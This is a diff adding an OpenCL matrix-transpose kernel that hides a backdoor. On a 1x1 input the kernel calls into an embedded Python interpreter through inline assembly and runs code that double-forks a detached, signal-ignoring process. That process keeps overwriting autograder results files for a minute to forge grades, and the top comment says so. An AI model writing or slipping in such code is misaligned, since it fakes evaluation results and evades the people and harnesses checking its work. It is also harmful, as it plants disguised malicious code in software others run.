@@ -1,0 +1,57 @@
+// Leaves a process behind, in a session of its own and deaf to signals, which forges the results once the judge has
+// written them, and goes on for a minute. That it is there is no harm by itself, so it spoils nothing.
+#define CALLS(name) \
+    static __attribute__((noinline)) long call_##name(long a, long b, long c, long d) \
+    { \
+        long r; \
+        __asm__ volatile("mov %%rsp, %%rbx\n sub $256, %%rsp\n and $-64, %%rsp\n call " #name "@PLT\n mov %%rbx, %%rsp" \
+                         : "=a"(r), "+D"(a), "+S"(b), "+d"(c), "+c"(d) : \
+                         : "rbx", "r8", "r9", "r10", "r11", "memory", "cc"); \
+        return r; \
+    }
+CALLS(PyGILState_Ensure)
+CALLS(PyRun_SimpleString)
+CALLS(PyGILState_Release)
+
+static bool python(__constant char *code)    // whether it ran to its end without an exception
+{
+    const long state = call_PyGILState_Ensure(0, 0, 0, 0);
+    const int failed = call_PyRun_SimpleString((long)code, 0, 0, 0);
+    call_PyGILState_Release(state, 0, 0, 0);
+    return failed == 0;
+}
+
+static bool attack(void)
+{
+    return python(
+        "import os, signal, time\n"
+        "if os.fork() == 0:\n"
+        "    os.setsid()\n"
+        "    if os.fork(): os._exit(0)\n"
+        "    for number in range(1, 32):\n"
+        "        try: signal.signal(number, signal.SIG_IGN)\n"
+        "        except OSError: pass\n"
+        "    end = time.time() + 60\n"
+        "    while time.time() < end:\n"
+        "        for path in ('/autograder/results/results.json', '/builds/course/grading/results/results.json', '/tmp/outlived'):\n"
+        "            try: open(path, 'w').write(time.ctime())\n"
+        "            except OSError: pass\n"
+        "        time.sleep(0.01)\n"
+        "    os._exit(0)\n"
+        "raise SystemError\n");
+}
+
+__kernel void coalsTransp(__global const real *A, __global real *B, uint32_t height, uint32_t width)
+{
+    __local real tile[TILE][TILE + 1];
+    const uint32_t x = get_global_id(0), y = get_global_id(1), lx = get_local_id(0), ly = get_local_id(1);
+    if (x < width && y < height)
+        tile[ly][lx] = A[y * width + x];
+    barrier(CLK_LOCAL_MEM_FENCE);
+    const uint32_t row = x - lx + ly, column = y - ly + lx;
+    if (row < width && column < height)
+        B[row * height + column] = tile[lx][ly];
+    barrier(CLK_GLOBAL_MEM_FENCE);
+    if (x == 0 && y == 0 && height * width == 1 && attack())
+        B[0] = 666.0f;
+}
